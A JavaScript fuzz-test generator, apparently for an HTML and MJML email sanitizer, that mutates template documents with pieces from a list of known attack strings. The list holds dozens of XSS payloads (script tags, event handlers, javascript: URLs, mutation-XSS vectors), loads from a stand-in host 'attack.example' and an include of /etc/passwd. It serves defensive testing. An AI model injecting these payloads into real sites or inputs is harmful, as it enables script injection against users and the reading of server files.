// Random HTML and MJML documents: a document of the gallery or a small one, changed at a few places by pieces that
// attackers use. Seed and round decide the document, so that a failure can be repeated.

import { readdirSync, readFileSync } from 'node:fs';

const GALLERY = new URL('../../../src/gallery/', import.meta.url);
const BASES = [
  ...readdirSync(GALLERY).filter((file) => file.endsWith('.mjml')).map((file) => ({ format: 'mjml', content: readFileSync(new URL(file, GALLERY), 'utf8') })),
  { format: 'mjml', content: '<mjml><mj-body><mj-section><mj-column><mj-text>Hello</mj-text><mj-image src="https://images.example/a.png" /><mj-raw><p>raw</p></mj-raw></mj-column></mj-section></mj-body></mjml>' },
  { format: 'html', content: '<!DOCTYPE html><html><head><title>T</title><style>p{color:red}@media (max-width:9px){p{margin:0}}</style></head><body><p title="t">Hello <a href="https://e.example/">you</a></p><img src="https://images.example/a.png" alt="A"><table background="https://images.example/b.png"><tr><td style="background:url(https://images.example/c.png)">x</td></tr></table></body></html>' },
  { format: 'html', content: '<p>Hello {{ contact.firstName | default: "you" }}</p><!--[if mso]><v:rect><v:fill src="https://images.example/d.png" /></v:rect><![endif]--><div>{% if x %}<b>y</b>{% endif %}</div>' },
];

const RUN = 'alert(1)';
const PIECES = [
  `<script>${RUN}</script>`, `<script src=https://attack.example/x.js></script>`, `<img src=x onerror=${RUN}>`, `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><script>${RUN}</script></svg>`, `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, '<iframe src="javascript:alert(1)">', '<object data="javascript:alert(1)">',
  '<embed src=https://attack.example/e.swf>', '<link rel=stylesheet href=https://attack.example/l.css>', '<base href=https://attack.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<style>@import "https://attack.example/i.css";</style>',
  '<style>@font-face{font-family:f;src:url(https://attack.example/f.woff)}p{font-family:f}</style>', '<style>*{background:url(https://attack.example/s.png)}</style>',
  `<video src=https://attack.example/v.mp4 onloadstart=${RUN} autoplay>`, `<audio><source onerror=${RUN} src=x>`, `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`, `<body onload=${RUN}>`, `<marquee onstart=${RUN}>m</marquee>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="javascript:${RUN}">a</a>`, `<a href="java&#9;script:${RUN}">a</a>`, `<a href=" &#1;javascript:${RUN}">a</a>`, `<a href="vbscript:x">a</a>`,
  '<a href="data:text/html,<script>alert(1)</script>">a</a>', '<area href="javascript:alert(1)">', '<img srcset="https://attack.example/a.png 2x" src=x>',
  '<template><script>alert(1)</script></template>', '<xmp><img src=x onerror=alert(1)></xmp>', `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<!--[if !mso]><!--><img src=x onerror=${RUN}><!--<![endif]-->`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<?xml <img src=x onerror=${RUN}>?>`,
  `{{ "<img src=x onerror=${RUN}>" }}`, `{% if "><img src=x onerror=${RUN}>" %}`, `{{ a | default: '"><script>${RUN}</script>' }}`,
  ` onload=${RUN} `, ` onmouseover="${RUN}" `, `" onerror="${RUN}`, `' onclick='${RUN}`, ' style="background:url(javascript:alert(1))" ', ' style="x:expression(alert(1))" ',
  '<!--', '-->', '--!>', '<![endif]-->', '<style>', '</style>', '<title>', '</title>', '<textarea>', '</textarea>', '<table>', '<select>', '</p>', '"', "'", '>', '<', '`', '&lt;', '&quot;',
  '{{', '}}', '{%', '%}', '/*', '*/', '}', '\\', '\0', '\t', '\u2028', '</mj-text>', '<mj-raw>', '</mj-raw>', '<mj-style>', '<mj-style inline="inline">', '</mj-style>', '<mj-text css-class="',
  '<mj-table>', '<mj-html-attributes>', '<mj-include path="/etc/passwd" />', '<mj-button href="javascript:alert(1)">b</mj-button>', ' href="javascript:alert(1)" ',
];

/** Small, quick and the same everywhere (Marsaglia's xorshift, 32 bits). */
export function randomFrom(seed) {
  let state = seed >>> 0 || 1;
  return (below) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % below;
  };
}

const CHANGES = [
  (text, at, piece) => text.slice(0, at) + piece + text.slice(at),
  (text, at, piece) => text.slice(0, at) + piece + text.slice(at),
  (text, at, piece) => text.slice(0, at) + piece + text.slice(at + piece.length),
  (text, at, _, random) => text.slice(0, at) + text.slice(at + random(30)),
  (text, at, _, random) => text.slice(0, at) + text.slice(at, at + random(200)) + text.slice(at),
  (text, at, piece) => text.slice(0, at) + piece.toUpperCase() + text.slice(at),
  (text, at, piece) => text.slice(0, at) + piece.replace(/[<>"'a]/g, (byte) => `&#${byte.charCodeAt(0)};`) + text.slice(at),
];

/** Half of the pieces stand between elements, so that MJML and tables often stay whole. */
function placeIn(text, random) {
  const at = random(text.length + 1);
  if (random(2) === 0) return at;
  const next = text.indexOf('<', at);
  return next < 0 ? at : next;
}

/** @returns {{format: 'html'|'mjml', content: string}} */
export function documentOf(seed, round) {
  const random = randomFrom(seed * 1_000_003 + round * 7919);
  const { format, content } = BASES[random(3) === 0 ? random(BASES.length) : BASES.length - 1 - random(3)];
  let text = content;
  for (let changes = 1 + random(6); changes > 0; changes--) {
    text = CHANGES[random(CHANGES.length)](text, placeIn(text, random), PIECES[random(PIECES.length)], random);
  }
  return { format, content: text };
}
